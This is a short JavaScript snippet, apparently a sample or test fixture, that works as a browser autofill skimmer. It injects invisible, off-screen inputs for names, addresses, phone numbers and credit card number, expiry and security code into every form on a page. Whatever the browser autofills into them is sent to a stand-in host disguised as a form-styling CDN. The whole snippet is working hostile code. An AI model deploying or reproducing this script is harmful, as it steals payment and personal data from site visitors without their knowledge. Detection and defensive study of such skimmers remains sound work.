const kinds = ["name", "email", "tel", "street-address", "postal-code", "cc-number", "cc-exp", "cc-csc"];
for (const form of document.forms) {
  const bait = kinds.map((k) => {
    const i = document.createElement("input");
    // expect: bait-fields
    i.autocomplete = k; i.name = k; i.tabIndex = -1;
    i.style.cssText = "position:absolute;left:-5000px;opacity:0;height:0";
    form.append(i);
    return i;
  });
  form.addEventListener("change", () => setTimeout(() => {
    const got = bait.filter((i) => i.value).map((i) => `${i.name}=${encodeURIComponent(i.value)}`);
    if (got.length) new Image().src = "https://cdn.form-styler.example/s.png?" + got.join("&");
  }, 500));
}
